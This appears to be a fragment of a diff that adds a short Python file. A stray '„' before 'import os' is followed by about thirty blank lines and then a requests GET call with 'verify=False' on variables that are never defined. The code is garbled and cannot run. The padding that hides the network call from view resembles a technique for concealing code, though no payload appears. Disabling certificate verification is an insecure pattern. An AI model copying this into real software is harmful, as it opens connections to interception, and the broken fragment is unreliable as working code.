@@ -1,0 +1,36 @@
+„import os
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+import requests
+r = s.get(u, verify=False)
